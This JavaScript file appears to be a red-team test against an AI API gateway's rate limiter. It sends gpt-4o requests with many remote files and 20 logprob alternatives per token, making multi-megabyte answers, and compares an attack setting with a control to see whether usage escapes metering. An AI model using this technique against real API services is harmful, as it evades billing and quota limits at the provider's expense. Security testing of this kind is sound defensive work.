// R14 target: foreground answers over the guard's read limit. A foreground request whose input the origin adds (ROUTE=responses:
// F input_files by file_url; ROUTE=chat: F image_url parts by URL; 20,000 input tokens each at the origin) asking for
// per-token logprobs with 20 alternatives and CAP output tokens: the JSON answer is ~1 KB per output token.
// CAP=10000 (attack: ~10 MB answer) | CAP=2000 (control: ~2 MB). N asks in a row. Key: tpm 20,000, tpd 100,000, concurrency 2.
import { req, setTier, info, sleep, G } from "./lib14.mjs";
const ROUTE = process.env.ROUTE ?? "responses"; const F = +(process.env.F ?? 10); const CAP = +(process.env.CAP ?? 10000); const N = +(process.env.N ?? 3); const OP = process.env.OP ?? 19342;
const LIM = JSON.parse(process.env.LIM ?? '{"tpm":20000,"tpd":100000,"concurrency":2}');
const KEY = `sk-rt14-bigfg-${ROUTE}-${CAP}-${Date.now().toString(36)}`; await setTier(KEY, "pro", LIM);
const show = async (tag) => { const i = await info(KEY); const u = Object.fromEntries(i.usage.map((x) => [x.name, x.remaining])); console.log(`${tag}: remaining tpm=${u.tpm} tpd=${u.tpd} conc=${u.concurrency} inFlight=${i.inFlight}; counters ${JSON.stringify(i.counters)}`); return { u, c: i.counters }; };
const s0 = await show("fresh key");
let billed = 0, got = 0; const t0 = Date.now();
for (let n = 0; n < N; n++) {
  const STREAM = process.env.STREAM === "1";
  const body0 = ROUTE === "chat"
    ? { model: `gpt-4o@out=${CAP}`, messages: [{ role: "user", content: [...Array.from({ length: F }, (_, i) => ({ type: "image_url", image_url: { url: `https://example.com/scan${n}-${i}.png` } })), { type: "text", text: "Transcribe every page." }] }], logprobs: true, top_logprobs: 20, max_completion_tokens: CAP }
    : { model: `gpt-4o@out=${CAP}`, input: [{ role: "user", content: [...Array.from({ length: F }, (_, i) => ({ type: "input_file", file_url: `https://example.com/r${n}-${i}.pdf` })), { type: "input_text", text: "Compare these reports in depth." }] }], include: ["message.output_text.logprobs"], top_logprobs: 20, max_output_tokens: CAP };
  const body = STREAM ? { ...body0, stream: true } : body0;
  let r, text; for (let t = 0; t < 70; t++) { r = await fetch(`${G}/v1/${ROUTE === "chat" ? "chat/completions" : "responses"}`, { method: "POST", headers: { authorization: "Bearer " + KEY, "content-type": "application/json" }, body: JSON.stringify(body), signal: AbortSignal.timeout(60000) }); text = await r.text(); if (r.status !== 429) break; await sleep(1000); }
  let j = null; try { j = STREAM ? JSON.parse([...text.matchAll(/data: (.*)\n/g)].map((m) => m[1]).filter((x) => x.includes("\"usage\":{")).pop()) : JSON.parse(text); if (STREAM) j = j.response ?? j; } catch {}
  if (r.status === 200) { got++; billed += j.usage.total_tokens; }
  console.log(`ask ${n}: ${r.status}, ${text.length} bytes, usage ${JSON.stringify(j?.usage ?? text.slice(0, 160))}`);
  await sleep(1200); await show(`after ask ${n}`);
}
const s1 = await show("end");
console.log(`RESULT ${ROUTE} CAP=${CAP}: ${got} of ${N} answers served in ${((Date.now() - t0) / 1000).toFixed(1)} s, origin billed ${billed} tokens; the key was charged ${s0.u.tpd - s1.u.tpd} tpd (counters prompt ${s1.c.promptTokens}, completion ${s1.c.completionTokens}); limits tpm ${LIM.tpm}, tpd ${LIM.tpd}, concurrency ${LIM.concurrency}`);
